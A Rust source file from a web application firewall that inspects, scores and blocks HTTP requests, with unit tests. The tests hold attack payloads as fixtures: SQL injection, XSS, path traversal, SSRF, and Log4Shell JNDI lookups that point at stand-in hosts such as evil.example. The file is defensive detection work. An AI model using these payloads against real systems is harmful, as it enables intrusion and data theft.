//! One inspection: extract the targets, run every detector over each value once (views
//! cached per value), run the request-shape and custom rules, apply exclusions, score.

use std::cell::RefCell;
use std::collections::HashMap;
use std::net::IpAddr;

use portcullis_core::{WafMatch, WafReport};

use portcullis_core::coding::{self as inflate, Inflated};

use crate::coding;
use crate::config::{Action, Mode, RouteWaf};
use crate::detect::{self, api};
use crate::extract::{self, BodyFacts, BodyKind};
use crate::extract_rules::BODY_OVER_LIMIT;
use crate::model::{Class, Finding, Location, Part, Target, evidence, exclusion_key, snippet};
use crate::transform::Views;

/// What is inspected.
pub struct Inspection<'a> {
    pub head: &'a http::request::Parts,
    /// The normalised path.
    pub path: &'a str,
    pub client_ip: IpAddr,
    pub body: BodyState<'a>,
}

/// The body as the WAF saw it.
pub enum BodyState<'a> {
    /// No body, or a type the WAF does not inspect (binary).
    None,
    /// Buffered whole within the inspection limit.
    Buffered(&'a [u8]),
    /// Labelled binary (one binary `Content-Type`) but text by its first bytes
    /// ([`crate::sniff`]), buffered whole within the inspection limit: inspected as a body
    /// without a type is.
    Sniffed(&'a [u8]),
    /// Over the inspection limit and let through uninspected (`on_body_over_limit: pass`, or
    /// `detect` mode).
    Skipped { limit: u64 },
}

/// The result: every finding (excluded ones flagged), the score and the decision.
#[derive(Debug, Default)]
pub struct Outcome {
    pub findings: Vec<Scored>,
    pub score: u32,
    pub blocked: bool,
    /// The body as inspected, when it was inflated from a content coding: what must go
    /// upstream instead of the compressed one (an upstream that does not inflate it would read
    /// bytes the WAF never judged: gzip header fields, a zlib stream read as raw deflate).
    pub inflated: Option<Vec<u8>>,
    /// The body inflates past the inspection limit and the route refuses such bodies (in
    /// `block` mode, `on_body_over_limit: reject`): refused (413), as a body sent that long
    /// is.
    pub inflated_over_limit: bool,
}

#[derive(Debug)]
pub struct Scored {
    pub finding: Finding,
    pub excluded: bool,
    /// Recorded but never scored (a body passed uninspected).
    pub informational: bool,
    /// Found on a derived target (XML joined text, a `;` piece of a query pair) whose rule a
    /// finding on a target that is not derived already scored in the same location: the
    /// same bytes, reported but not scored twice.
    pub repeated: bool,
}

impl Outcome {
    /// The audit record (`mode` is the route's).
    pub fn report(&self, route: &RouteWaf) -> WafReport {
        WafReport {
            mode: route.mode.as_str(),
            paranoia: route.paranoia,
            score: self.score,
            threshold: route.threshold,
            blocked: self.blocked,
            matches: self
                .findings
                .iter()
                .map(|s| WafMatch {
                    rule: s.finding.rule,
                    class: s.finding.class.as_str(),
                    severity: s.finding.severity.as_str(),
                    message: s.finding.message.clone(),
                    target: s.finding.target.clone(),
                    transforms: s.finding.transforms,
                    snippet: s.finding.snippet.clone(),
                    excluded: s.excluded || s.informational,
                })
                .collect(),
        }
    }
}

thread_local! {
    /// Transformation buffers, reused by every inspection on this thread.
    static VIEWS: RefCell<Views> = RefCell::new(Views::new());
}

/// Values made only of letters, digits, `_` and `-` cannot carry any value-detector's attack
/// (no quotes, operators, dots, separators, brackets, encodings or spaces), so they skip the
/// detectors. A dot is enough to need them: `config.inc.php` and `win.ini` are sensitive file
/// names (1404), `....etcpasswd` traversal whose separators a filter stripped (1401); and so is
/// a leading `L` on a value of 8 or more: a path starting with `/` or `.` encodes to base64
/// starting with `L` (1414); and `--`, a SQL comment (`--sp_password` hides a query from
/// SQL Server's logs). Public so the corpus tests can hold the shortcut to its promise
/// (no skipped sample has a finding).
pub fn skips_value_detectors(v: &str) -> bool {
    v.len() <= 256
        && !(v.len() >= 8 && v.starts_with('L'))
        && !v.contains("--")
        && v.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
}

/// Inspects a request under a route's settings.
pub fn inspect(route: &RouteWaf, req: &Inspection<'_>) -> Outcome {
    // Declared before the targets, which may borrow from it.
    let inflated = match req.body {
        BodyState::Buffered(bytes) | BodyState::Sniffed(bytes) => {
            inflate::inflate(&req.head.headers, bytes, route.inspect_body_bytes)
        }
        _ => Inflated::Plain,
    };
    let mut targets: Vec<Target<'_>> = Vec::with_capacity(32);
    let mut findings: Vec<Finding> = Vec::new();
    extract::head_targets(
        req.head,
        req.path,
        &route.limits,
        &mut targets,
        &mut findings,
    );
    let mut facts = BodyFacts::default();
    // An untyped POST body's fields as Rack reads them (for the parameter rules).
    let mut loose: Vec<Target<'_>> = Vec::new();
    let mut informational = None;
    let mut over_limit_refused = false;
    match req.body {
        BodyState::Buffered(bytes) | BodyState::Sniffed(bytes) => {
            let body = match &inflated {
                Inflated::Plain => Some(bytes),
                Inflated::Inflated(body) => Some(body.as_slice()),
                Inflated::OverLimit if route.passes_over_limit() => {
                    informational = Some(over_limit(route.inspect_body_bytes, "inflated "));
                    None
                }
                Inflated::OverLimit => {
                    let why = format!("inflates past {} bytes", route.inspect_body_bytes);
                    coding::refused(&why, &mut findings);
                    over_limit_refused = true;
                    None
                }
                Inflated::Refused(why) => {
                    coding::refused(why, &mut findings);
                    None
                }
            };
            let mut cts = req.head.headers.get_all(http::header::CONTENT_TYPE).iter();
            let first = cts.next();
            if first.is_some_and(|v| v.to_str().is_err()) {
                extract::non_ascii_content_type(&mut findings);
            }
            if let Some(body) = body {
                // Its binary label is what the sniff found untrue: read as untyped.
                let ct = match req.body {
                    BodyState::Sniffed(_) => None,
                    _ => first.and_then(|v| v.to_str().ok()),
                };
                facts = extract::body_targets(ct, body, &route.limits, &mut targets, &mut findings);
                // Rack reads a POST body without a media type (an empty `Content-Type` is none
                // to it) as a form, whatever its bytes: one that starts like JSON or looks
                // binary too (a `text/*` or unknown type it leaves alone, as PHP and Go do).
                let untyped = first.is_none_or(|v| v.as_bytes().trim_ascii().is_empty());
                // Not a body that looks binary: a browser's `fetch` of a Blob sends none, and
                // random bytes read as a form are a thousand fields of junk, which the
                // detectors and the pollution rule take for attacks (a residual risk: Rack
                // reads even those as a form).
                // Nor one that reads as JSON: clients that send JSON without a type (Python's
                // `requests.post(data=json.dumps(…))`) are far more common than Rack apps fed
                // one, and a URL in a JSON string (`…?a=1&verified=true`) would read as fields.
                if untyped && req.head.method == http::Method::POST && facts.kind == BodyKind::Text
                {
                    let head = targets
                        .iter()
                        .filter(|t| t.location != Location::Body)
                        .count();
                    loose = extract::loose_form(body, &route.limits, head, &mut findings);
                }
            }
            // Servers read the first or the last of two: the one the WAF did not may be another.
            if cts.next().is_some() {
                extract::two_content_types(&mut findings);
            }
        }
        BodyState::Skipped { limit } => {
            informational = Some(over_limit(limit, ""));
            // A body passed uninspected (`on_body_over_limit: pass`, `detect` mode) is still
            // one two readers could take for two different things.
            if req
                .head
                .headers
                .get_all(http::header::CONTENT_TYPE)
                .iter()
                .nth(1)
                .is_some()
            {
                extract::two_content_types(&mut findings);
            }
        }
        BodyState::None => {}
    }

    let pl = route.paranoia;
    VIEWS.with(|cell| {
        let Ok(mut views) = cell.try_borrow_mut() else {
            // Re-entered on this thread (cannot happen: inspection does not await); a fresh
            // set of buffers keeps it correct.
            let mut views = Views::new();
            run_detectors(&targets, &mut views, pl, &mut findings);
            return;
        };
        run_detectors(&targets, &mut views, pl, &mut findings);
    });
    api::inspect_method(
        &route.api,
        &req.head.method,
        &targets,
        &facts,
        pl,
        &mut findings,
    );
    // An untyped POST body read as a form, as Rack reads it: the parameter rules on its
    // fields beside the query's. What the first pass found already is not reported again (nor
    // is the method field rule 2401, which reads such a body itself); findings of this pass
    // are all kept, two on one target included.
    if !loose.is_empty() {
        loose.extend(
            targets
                .iter()
                .filter(|t| t.location == Location::Query)
                .cloned(),
        );
        let mut more = Vec::new();
        let form = BodyFacts {
            kind: BodyKind::Form,
            ..BodyFacts::default()
        };
        api::inspect_method(&route.api, &req.head.method, &loose, &form, pl, &mut more);
        let first_pass = findings.len();
        for f in more {
            let found = findings
                .get(..first_pass)
                .unwrap_or_default()
                .iter()
                .any(|g| g.rule == f.rule && g.target == f.target);
            if f.rule != api::method_field_rule() && !found {
                findings.push(f);
            }
        }
    }
    if !route.custom_rules.is_empty() {
        run_custom(route, req.client_ip, &targets, &mut findings);
    }

    drop(targets);
    let mut out = Outcome {
        findings: Vec::with_capacity(findings.len() + 1),
        score: 0,
        blocked: false,
        inflated: match inflated {
            Inflated::Inflated(body) => Some(body),
            _ => None,
        },
        inflated_over_limit: over_limit_refused,
    };
    let excluded: Vec<bool> = findings
        .iter()
        .map(|f| {
            route
                .exclusions
                .iter()
                .any(|x| x.covers(f.rule, f.class, &f.exclusion_key))
        })
        .collect();
    // Rules found, not excluded, on targets that are not derived, by location: a finding on
    // a derived target (an XML element's joined text, a `;` piece) of one of these holds bytes
    // that were scored already. One that only the derived text shows (an attack split by
    // `<b/>`), or whose source is excluded (`?q=x;id=…` under an exclusion of `q`), counts.
    let scored: std::collections::HashSet<(u32, &str)> = findings
        .iter()
        .zip(&excluded)
        .filter(|(f, excluded)| !f.derived && !**excluded)
        .map(|(f, _)| (f.rule, location_of(f)))
        .collect();
    let repeated: Vec<bool> = findings
        .iter()
        .map(|f| f.derived && scored.contains(&(f.rule, location_of(f))))
        .collect();
    drop(scored);
    for ((f, excluded), repeated) in findings.into_iter().zip(excluded).zip(repeated) {
        if !excluded && !repeated {
            out.score = out.score.saturating_add(f.severity.score());
            out.blocked |= f.blocks;
        }
        out.findings.push(Scored {
            finding: f,
            excluded,
            informational: false,
            repeated,
        });
    }
    if let Some(f) = informational {
        out.findings.push(Scored {
            finding: f,
            excluded: false,
            informational: true,
            repeated: false,
        });
    }
    out.blocked |= out.score >= route.threshold;
    out
}

/// Where a finding is (`query`, `body`, `header` …): its exclusion key up to the `:`.
fn location_of(f: &Finding) -> &str {
    f.exclusion_key
        .split_once(':')
        .map_or(f.exclusion_key.as_str(), |(location, _)| location)
}

/// Rule 1004, recorded but not scored: the body passed uninspected (`on_body_over_limit: pass`,
/// or `detect` mode).
fn over_limit(limit: u64, what: &str) -> Finding {
    let t = Target::new(Location::Body, "", Part::Value, "");
    let mut f = Finding::new(BODY_OVER_LIMIT, &t, crate::transform::View::Raw, "");
    f.snippet = format!("body {what}over {limit} bytes, not inspected");
    f
}

fn run_detectors(targets: &[Target<'_>], views: &mut Views, pl: u8, out: &mut Vec<Finding>) {
    // Values repeated in one request (the same note on every item of an order) are inspected
    // once: the value detectors' verdict on a value depends only on its location and text, except
    // for names, headers and the XML DOCTYPE, which are never shared. A repeat gets copies of
    // the first one's findings, re-addressed.
    let mut seen: HashMap<(Location, &str), (usize, usize)> = HashMap::new();
    for t in targets {
        if t.value.is_empty() || (t.location != Location::Header && skips_value_detectors(&t.value))
        {
            continue;
        }
        let shareable = t.part == Part::Value
            && matches!(
                t.location,
                Location::Query | Location::Body | Location::Cookie
            )
            && t.name != "!DOCTYPE";
        if shareable && let Some(&(from, to)) = seen.get(&(t.location, t.value.as_ref())) {
            let shown = t.to_string();
            let key = exclusion_key(t);
            for i in from..to {
                if let Some(f) = out.get(i) {
                    let mut f = f.clone();
                    f.target.clone_from(&shown);
                    f.exclusion_key.clone_from(&key);
                    f.derived = t.derived;
                    if crate::model::holds_secret(t) {
                        f.snippet = crate::model::redacted(&t.value);
                    }
                    out.push(f);
                }
            }
            continue;
        }
        let from = out.len();
        views.load(&t.value);
        for (_, inspect) in detect::VALUE_DETECTORS {
            inspect(t, views, pl, out);
        }
        if shareable {
            seen.insert((t.location, t.value.as_ref()), (from, out.len()));
        }
    }
}

fn run_custom(route: &RouteWaf, client_ip: IpAddr, targets: &[Target<'_>], out: &mut Vec<Finding>) {
    let keys: Vec<String> = targets.iter().map(exclusion_key).collect();
    let mut views = Views::new();
    let ip_text = client_ip.to_string();
    for rule in &route.custom_rules {
        if rule.paranoia > route.paranoia {
            continue;
        }
        // (value, target as shown, exclusion key, the target — none for the client address)
        let mut check = |value: &str,
                         shown: String,
                         key: &str,
                         target: Option<&Target<'_>>,
                         views: &mut Views| {
            views.load(value);
            let v = views.get(rule.view);
            let hit = match (rule.operator.find(v), rule.negate) {
                (Some(m), false) => Some(m),
                (None, true) => Some(v),
                _ => None,
            };
            // Quoted as a built-in rule's finding is (secrets, URLs' queries).
            if let Some(snippet) = hit.map(|m| match target {
                Some(t) => evidence(t, m),
                None => snippet(m),
            }) {
                out.push(Finding {
                    rule: rule.id,
                    class: Class::Custom,
                    severity: rule.severity,
                    blocks: rule.action == Action::Block,
                    message: std::borrow::Cow::Owned(rule.description.to_string()),
                    target: shown,
                    exclusion_key: key.to_string(),
                    transforms: rule.view.chain(),
                    snippet,
                    derived: target.is_some_and(|t| t.derived),
                });
            }
        };
        if rule.client_ip {
            check(
                &ip_text,
                "client_ip".to_string(),
                "client_ip",
                None,
                &mut views,
            );
        }
        for (t, key) in targets.iter().zip(&keys) {
            if t.part == Part::Value && rule.targets.iter().any(|p| p.matches(key)) {
                check(&t.value, t.to_string(), key, Some(t), &mut views);
            }
        }
    }
}

/// Whether the route's mode turns a blocked outcome into a refusal.
pub fn enforces(route: &RouteWaf) -> bool {
    route.mode == Mode::Block
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::OverLimit;

    fn post(body: &'static str) -> (http::request::Parts, &'static str) {
        let (head, ()) = http::Request::builder()
            .method("POST")
            .uri("/orders")
            .header("content-type", "application/json")
            .body(())
            .unwrap()
            .into_parts();
        (head, body)
    }

    /// Inspects `head` (and `body`) as a request for `path` from 192.0.2.1 under `route`.
    fn inspect_at(
        route: &RouteWaf,
        head: &http::request::Parts,
        path: &str,
        body: BodyState<'_>,
    ) -> Outcome {
        let client_ip = "192.0.2.1".parse().unwrap();
        inspect(
            route,
            &Inspection {
                head,
                path,
                client_ip,
                body,
            },
        )
    }

    fn run(head: &http::request::Parts, body: &str) -> Outcome {
        inspect_at(
            &RouteWaf::default(),
            head,
            "/orders",
            BodyState::Buffered(body.as_bytes()),
        )
    }

    fn post_with(content_type: Option<&[u8]>, body: &'static str) -> Outcome {
        let mut b = http::Request::builder().method("POST").uri("/orders");
        if let Some(ct) = content_type {
            b = b.header("content-type", http::HeaderValue::from_bytes(ct).unwrap());
        }
        let (head, ()) = b.body(()).unwrap().into_parts();
        run(&head, body)
    }

    fn rules(out: &Outcome) -> Vec<u32> {
        let mut v: Vec<u32> = out.findings.iter().map(|f| f.finding.rule).collect();
        v.sort_unstable();
        v
    }

    /// A form whose `Content-Type` holds a byte beyond ASCII (PHP reads the type up to its
    /// `;`, Go's `ParseForm` the form anyway) is rule 1005; a POST body without a type, which
    /// Rack reads as a form, goes to the parameter rules as one.
    #[test]
    fn forms_the_waf_would_read_as_text_meet_the_parameter_rules() {
        let ct: &[u8] = b"application/x-www-form-urlencoded; x=\xe9";
        let out = post_with(Some(ct), "name=eve");
        assert!(out.blocked);
        assert_eq!(rules(&out), vec![1005]);
        let out = post_with(None, "name=eve&role=admin");
        assert!(out.blocked);
        assert_eq!(rules(&out), vec![2400]);
        let out = post_with(None, "id=1&id=2");
        assert!(out.blocked);
        assert_eq!(rules(&out), vec![2300]);
        let out = post_with(None, "query=%7B__schema%7Btypes%7Bname%7D%7D%7D");
        assert!(out.blocked);
        assert_eq!(rules(&out), vec![2507]);
        // `_method` once (rule 2401, found in such a body already), not twice.
        let out = post_with(None, "_method=DELETE");
        assert_eq!(rules(&out), vec![2401]);
        // A `text/plain` body no server reads as a form: its words are text.
        let out = post_with(Some(b"text/plain"), "name=eve&role=admin");
        assert!(!out.blocked, "{:?}", rules(&out));
        let out = post_with(None, "name=eve&note=fine");
        assert!(!out.blocked, "{:?}", rules(&out));
    }

    /// Rack reads a POST body without a media type as a form whatever its bytes: the WAF reads
    /// a text one (also under an empty `Content-Type`) as one too — not one that reads as JSON
    /// nor one that looks binary —; a POST only, and within the target limit like any
    /// extraction.
    #[test]
    fn an_untyped_post_body_is_a_form_whatever_its_bytes() {
        let with = |method: &str, ct: Option<&[u8]>, body: &[u8]| {
            let mut b = http::Request::builder().method(method).uri("/orders");
            if let Some(ct) = ct {
                b = b.header("content-type", http::HeaderValue::from_bytes(ct).unwrap());
            }
            let (head, ()) = b.body(()).unwrap().into_parts();
            inspect_at(
                &RouteWaf::default(),
                &head,
                "/orders",
                BodyState::Buffered(body),
            )
        };
        let at = |out: &Outcome, rule: u32, target: &str| {
            out.findings
                .iter()
                .any(|f| f.finding.rule == rule && f.finding.target == target && !f.excluded)
        };
        let out = with("POST", None, b"name=eve&role=admin");
        assert!(
            out.blocked && at(&out, 2400, "body:role"),
            "{:?}",
            out.findings
        );
        // JSON sent without a type (Python's `requests.post(data=json.dumps(…))`) is JSON: a
        // URL in one of its strings is not a form's fields.
        let out = with(
            "POST",
            None,
            br#"{"next":"https://api.test/x?status=a&verified=true&role=admin"}"#,
        );
        assert!(!out.blocked, "{:?}", rules(&out));
        let out = with("POST", Some(b""), b"name=eve&role=admin");
        assert!(
            out.blocked && at(&out, 2400, "body:role"),
            "{:?}",
            out.findings
        );
        // A body that looks binary is not read as a form (a Blob uploaded by `fetch` without a
        // type: read so, random bytes are a thousand fields of junk the rules take for
        // attacks); its 100 trailing bytes of 0xFF make this one binary.
        let mut binary = b"role=admin&q=1' UNION SELECT password FROM users--&x=".to_vec();
        binary.extend_from_slice(&[0xff; 100]);
        let out = with("POST", None, &binary);
        assert!(!out.blocked, "{:?}", rules(&out));
        // Past the target limit: rule 1003, as for any extraction.
        let mut many = String::new();
        for i in 0..4096 {
            many.push_str(&format!("p{i}=1&"));
        }
        many.push_str("role=admin");
        let out = with("POST", None, many.as_bytes());
        assert!(
            out.blocked && rules(&out).contains(&1003),
            "{:?}",
            rules(&out)
        );
        // A binary upload without a type, full of `&` and `=` by chance: passed, as before.
        let mut blob: Vec<u8> = (0..1536 * 1024u32)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect();
        blob.extend_from_slice(&[0xff; 64]);
        assert!(blob.iter().filter(|&&b| b == b'&').count() > 4096);
        let out = with("POST", None, &blob);
        assert!(!out.blocked, "{:?}", rules(&out));
        // Other methods are not read as forms.
        for method in ["PUT", "PATCH", "DELETE"] {
            let out = with(method, None, b"name=eve&role=admin");
            assert!(!out.blocked, "{method}: {:?}", out.findings);
        }
        // A POST whose form holds two page sizes over the limit in one GraphQL document: both
        // reported (the pass's findings are checked against the first pass's alone).
        let out = with(
            "POST",
            None,
            b"query=%7B+users%28first%3A+5000%29+%7B+friends%28first%3A+5000%29+%7B+id+%7D+%7D+%7D",
        );
        let over = out
            .findings
            .iter()
            .filter(|f| f.finding.rule == 2510 && f.finding.target == "body:query")
            .count();
        assert_eq!(over, 2, "{:?}", out.findings);
    }

    /// A derived target (an XML element's joined text, a `;` piece of a query pair) holds
    /// bytes other targets hold: its finding is scored only where no finding of the same rule
    /// on those counted already. Reported all the same.
    #[test]
    fn derived_targets_do_not_score_the_same_bytes_twice() {
        let run_at = |method: &str, uri: &str, ct: Option<&str>, body: &[u8], route: &RouteWaf| {
            let mut b = http::Request::builder().method(method).uri(uri);
            if let Some(ct) = ct {
                b = b.header("content-type", ct);
            }
            let (head, ()) = b.body(()).unwrap().into_parts();
            inspect_at(route, &head, "/docs", BodyState::Buffered(body))
        };
        let route = RouteWaf::default();
        let xml = |body: &str| {
            run_at(
                "POST",
                "/docs",
                Some("application/xml"),
                body.as_bytes(),
                &route,
            )
        };
        // Once at the run, once at the element's joined text: scored once.
        let out = xml("<doc><p>Open <b>the dashboard</b> on http://localhost:8080/ now</p></doc>");
        let ssrf: Vec<&Scored> = out
            .findings
            .iter()
            .filter(|f| f.finding.rule == 1502)
            .collect();
        assert_eq!(ssrf.len(), 2, "{:?}", out.findings);
        assert_eq!(ssrf.iter().filter(|f| f.repeated).count(), 1);
        assert_eq!(out.score, 4, "{:?}", out.findings);
        assert!(!out.blocked);
        let out = run_at(
            "GET",
            "/docs?next=a;u=http://localhost:3000/",
            None,
            b"",
            &route,
        );
        assert_eq!(out.score, 4, "{:?}", out.findings);
        assert!(!out.blocked);
        // What only the joined text shows counts.
        let out = xml("<r><q>1' UNI<b/>ON SELECT password FROM users--</q></r>");
        assert!(out.blocked, "{:?}", out.findings);
        // So does a piece whose pair is excluded.
        let mut excluding = RouteWaf::default();
        excluding.exclusions.push(crate::config::Exclusion {
            rules: Vec::new(),
            classes: vec![Class::Sqli],
            targets: vec![crate::config::TargetPattern::parse("query:q").unwrap()],
        });
        let out = run_at(
            "GET",
            "/docs?q=x;id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            None,
            b"",
            &excluding,
        );
        assert!(out.blocked, "{:?}", out.findings);
        assert!(
            out.findings
                .iter()
                .any(|f| f.finding.target == "query:id" && !f.excluded && !f.repeated),
            "{:?}",
            out.findings
        );
    }

    /// An RSQL filter's `;`-joined conditions on one field are no repeated parameter; a pair
    /// and its piece of one name are.
    #[test]
    fn semicolon_pieces_repeat_only_parameters() {
        let get = |uri: &str| {
            let (head, ()) = http::Request::builder()
                .uri(uri)
                .body(())
                .unwrap()
                .into_parts();
            inspect_at(&RouteWaf::default(), &head, "/people", BodyState::None)
        };
        let out = get("/people?search=name==x;age=ge=18;age=le=65");
        assert!(
            !out.blocked && out.findings.is_empty(),
            "{:?}",
            out.findings
        );
        assert_eq!(rules(&get("/people?id=1;id=2")), vec![2300]);
    }

    /// An exclusion of a query parameter does not cover a parameter after a `;` in its value,
    /// which servers that split at `;` read as a parameter of its own.
    #[test]
    fn an_excluded_parameter_does_not_cover_what_follows_a_semicolon() {
        let (head, ()) = http::Request::builder()
            .uri("/search?q=x;id=1%27%20UNION%20SELECT%20password%20FROM%20users--")
            .body(())
            .unwrap()
            .into_parts();
        let mut route = RouteWaf::default();
        route.exclusions.push(crate::config::Exclusion {
            rules: Vec::new(),
            classes: vec![Class::Sqli],
            targets: vec![crate::config::TargetPattern::parse("query:q").unwrap()],
        });
        let out = inspect_at(&route, &head, "/search", BodyState::Buffered(b""));
        assert!(out.blocked);
        assert!(
            out.findings
                .iter()
                .any(|f| f.finding.target == "query:id" && !f.excluded),
            "{:?}",
            out.findings
        );
    }

    #[test]
    fn a_repeated_value_is_reported_at_every_place_with_the_same_findings() {
        let (head, body) = post(
            r#"{"items":[{"note":"1' union select password from users--"},{"note":"1' union select password from users--"}],"x":"<script>alert(1)</script>"}"#,
        );
        let out = run(&head, body);
        assert!(out.blocked);
        let at = |t: &str| -> Vec<u32> {
            let mut v: Vec<u32> = out
                .findings
                .iter()
                .filter(|f| f.finding.target == t)
                .map(|f| f.finding.rule)
                .collect();
            v.sort_unstable();
            v
        };
        let first = at("body:$.items[0].note");
        assert!(!first.is_empty());
        assert_eq!(first, at("body:$.items[1].note"));
        let copy = out
            .findings
            .iter()
            .find(|f| f.finding.target == "body:$.items[1].note")
            .unwrap();
        assert_eq!(copy.finding.exclusion_key, "body:$.items[1].note");
        assert!(!at("body:$.x").is_empty());
    }

    /// An attack split by a child element or a processing instruction is found in the text a
    /// parser joins (`getTextContent()`, XPath's `string()`).
    #[test]
    fn attacks_split_in_xml_text_are_found() {
        let (head, ()) = http::Request::builder()
            .method("POST")
            .uri("/orders")
            .header("content-type", "application/xml")
            .body(())
            .unwrap()
            .into_parts();
        for (body, class) in [
            (
                "<r><q>1' UNI<?x?>ON SELECT password FROM users--</q></r>",
                Class::Sqli,
            ),
            (
                "<r><q>1' UNI<b/>ON SELECT password FROM users--</q></r>",
                Class::Sqli,
            ),
            ("<r><q>x' O<b/>R 'a'='a</q></r>", Class::Sqli),
            ("<r><q>${jn<?x?>di:ldap://evil/a}</q></r>", Class::Log4Shell),
        ] {
            let out = run(&head, body);
            assert!(out.blocked, "{body}: {:?}", out.findings);
            assert!(
                out.findings
                    .iter()
                    .any(|f| f.finding.class == class && f.finding.target == "body:/r/q"),
                "{body}: {:?}",
                out.findings
            );
        }
    }

    /// A lookup behind 9000 bytes of padding in a JSON field, or followed by 257 junk lookups,
    /// is resolved (the resolver read the first 8 KiB, and gave up after 256 lookups).
    #[test]
    fn a_lookup_behind_padding_or_junk_is_resolved() {
        const ATTACK: &str = "${${x:-j}ndi:rmi://evil.example/a}";
        for v in [
            format!("{}{ATTACK}", "a".repeat(9000)),
            format!("{ATTACK}{}", "${x}".repeat(257)),
        ] {
            let (head, _) = post("");
            let out = run(&head, &format!(r#"{{"q":"{v}"}}"#));
            assert!(out.blocked);
            assert!(
                out.findings
                    .iter()
                    .any(|f| f.finding.rule == 2000 && f.finding.target == "body:$.q"),
                "{:?}",
                out.findings
            );
        }
    }

    #[test]
    fn the_plain_value_shortcut_hides_no_finding() {
        // Letters, digits, `_` and `-` skip the detectors, but not these: traversal whose
        // separators a filter stripped (1401), a sensitive file name (1404), a base64-encoded
        // path (1414), a SQL comment hiding a query from the logs.
        for (v, rule) in [
            ("........etcpasswd", Some(1401)),
            ("config.inc.php", Some(1404)),
            ("L2V0Yy9wYXNzd2Q", Some(1414)),
            ("--sp_password", None),
        ] {
            assert!(!skips_value_detectors(v), "{v}");
            let (head, body) = post(Box::leak(format!(r#"{{"file":"{v}"}}"#).into_boxed_str()));
            let out = run(&head, body);
            assert!(out.blocked, "{v}: {:?}", out.findings);
            if let Some(rule) = rule {
                assert!(out.findings.iter().any(|f| f.finding.rule == rule), "{v}");
            }
        }
        for v in ["a-b_c", "2130706433", "Zm9vYmFy_-", "Lemon"] {
            assert!(skips_value_detectors(v), "{v}");
        }
    }

    #[test]
    fn an_oauth_token_exchange_form_passes() {
        let (head, ()) = http::Request::builder()
            .method("POST")
            .uri("/token")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("authorization", "Basic YmZmOnNlY3JldA==")
            .body(())
            .unwrap()
            .into_parts();
        let body = "grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Atoken-exchange&subject_token=eyJhbGciOiJFZERTQSIsImtpZCI6ImsxIn0.eyJpc3MiOiJodHRwczovL2lkcC5leGFtcGxlIiwic3ViIjoiYWxpY2UifQ.c2lnbmF0dXJl&subject_token_type=urn%3Aietf%3Aparams%3Aoauth%3Atoken-type%3Aaccess_token&audience=orders-api&scope=read%3Aorders%20write%3Aorders&resource=https%3A%2F%2Forders.internal.example%2Fv1";
        let out = run(&head, body);
        assert_eq!(out.score, 0, "{:?}", out.findings);
    }

    /// What could not be inspected does not pass, whatever the threshold, and an exclusion of
    /// the target where the value limit was reached (which the client chooses) does not
    /// cover it.
    #[test]
    fn uninspected_requests_block_whatever_the_threshold_and_target_exclusions() {
        let mut route = RouteWaf {
            threshold: 100,
            ..RouteWaf::default()
        };
        route.limits.max_targets = 50;
        route.exclusions.push(crate::config::Exclusion {
            rules: Vec::new(),
            classes: Vec::new(),
            targets: vec![crate::config::TargetPattern::parse("body:$.description").unwrap()],
        });
        let check = |body: String| {
            let (head, _) = post("");
            inspect_at(
                &route,
                &head,
                "/orders",
                BodyState::Buffered(body.as_bytes()),
            )
        };
        // Past the value limit at the excluded target, a payload after it never looked at.
        let mut flood = String::from("{");
        for _ in 0..100 {
            flood.push_str(r#""description":"x","#);
        }
        flood.push_str(r#""q":"1' union select password from users--"}"#);
        let out = check(flood);
        assert!(out.blocked, "{:?}", out.findings);
        let f = out
            .findings
            .iter()
            .find(|f| f.finding.rule == 1003)
            .unwrap();
        assert!(!f.excluded);
        assert_eq!(f.finding.exclusion_key, "request");
        // A body that does not parse, or nests too deep: blocked at a threshold of 100.
        let out = check(r#"{"q": "x"#.to_string());
        assert!(out.blocked && out.findings.iter().any(|f| f.finding.rule == 1001));
        let out = check(format!("{}{}", "[".repeat(100), "]".repeat(100)));
        assert!(out.blocked && out.findings.iter().any(|f| f.finding.rule == 1002));
        // A clean body at that threshold passes.
        assert!(!check(r#"{"q":"blue shoes"}"#.to_string()).blocked);
    }

    /// A body parsers could read differently from the WAF is refused, whatever it holds.
    #[test]
    fn a_content_type_read_more_than_one_way_blocks() {
        let head = |cts: &[&str]| {
            let mut b = http::Request::builder().method("POST").uri("/orders");
            for ct in cts {
                b = b.header("content-type", *ct);
            }
            b.body(()).unwrap().into_parts().0
        };
        let with = |cts: &[&str], body: &str| run(&head(cts), body);
        let ambiguous = |out: &Outcome| {
            out.blocked
                && out
                    .findings
                    .iter()
                    .any(|f| f.finding.rule == 1005 && !f.excluded)
        };
        // Past the inspection limit (`on_body_over_limit: pass`): still two readings.
        let skipped = |cts: &[&str]| {
            inspect_at(
                &RouteWaf::default(),
                &head(cts),
                "/orders",
                BodyState::Skipped { limit: 16 },
            )
        };
        assert!(ambiguous(&skipped(&["image/png", "application/json"])));
        assert!(!ambiguous(&skipped(&["application/json"])));
        let json = r#"{"q":"blue shoes"}"#;
        assert!(!ambiguous(&with(&["application/json"], json)));
        assert!(!ambiguous(&with(
            &["application/json; charset=UTF-8"],
            json
        )));
        assert!(ambiguous(&with(
            &["image/png", "application/x-www-form-urlencoded"],
            "q=1"
        )));
        assert!(ambiguous(&with(&["application/json; charset=utf-7"], json)));
        assert!(ambiguous(&with(&["application/json;charset=utf-16"], json)));
        let part = "--B\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--B--\r\n";
        assert!(!ambiguous(&with(
            &["multipart/form-data; boundary=B"],
            part
        )));
        assert!(ambiguous(&with(
            &["multipart/form-data; xboundary=A; boundary=B"],
            part
        )));
        assert!(ambiguous(&with(
            &["multipart/form-data; boundary=B; boundary=A"],
            part
        )));
        // PHP finds `boundary` inside another parameter's value.
        assert!(ambiguous(&with(
            &["multipart/form-data; x=boundary=A; boundary=B"],
            part
        )));
        assert!(ambiguous(&with(
            &["multipart/form-data; x=\"boundary=A\"; boundary=B"],
            part
        )));
        assert!(ambiguous(&with(
            &["multipart/form-data; X=BOUNDARY=A; BOUNDARY=B"],
            part
        )));
        // Chrome's boundary holds the word, after the parameter's name: one reading.
        let webkit = "--WebKitFormBoundaryQ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--WebKitFormBoundaryQ--\r\n";
